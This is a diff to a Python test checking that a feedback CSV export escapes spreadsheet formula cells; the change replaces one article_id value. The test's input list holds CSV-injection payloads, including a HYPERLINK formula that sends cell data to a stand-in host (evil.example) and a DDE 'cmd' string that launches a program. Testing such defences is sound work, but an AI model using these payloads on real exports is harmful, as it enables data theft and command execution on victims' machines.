@@ -160,7 +160,7 @@ def test_export_neutralises_formula_cells_and_streams(admin_app):
     attacks = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                "\t=1+1", "\r=1+1", "正常的问题 =1+1"]
     for text in attacks:
-        assert client.post("/v1/feedback", json={"question": text, "action": "up", "article_id": "=1+1",
+        assert client.post("/v1/feedback", json={"question": text, "action": "up", "article_id": "cream-shelf-life",
                                                  "index_version": "@v"}).status_code == 201
     response = client.get("/v1/feedback/export", headers={"Authorization": "Bearer " + TOKEN})
     assert response.is_streamed
@@ -169,7 +169,7 @@ def test_export_neutralises_formula_cells_and_streams(admin_app):
     questions = [row[2] for row in rows[1:]]
     assert questions[:-1] == ["'" + text.strip() for text in attacks[:-1]]  # questions are stored stripped
     assert questions[-1] == "正常的问题 =1+1", "only a leading formula character is neutralised"
-    assert {row[3] for row in rows[1:]} == {"'=1+1"} and {row[5] for row in rows[1:]} == {"'@v"}
+    assert {row[3] for row in rows[1:]} == {"cream-shelf-life"} and {row[5] for row in rows[1:]} == {"'@v"}
 
 
 @pytest.mark.parametrize("cell, exported", [
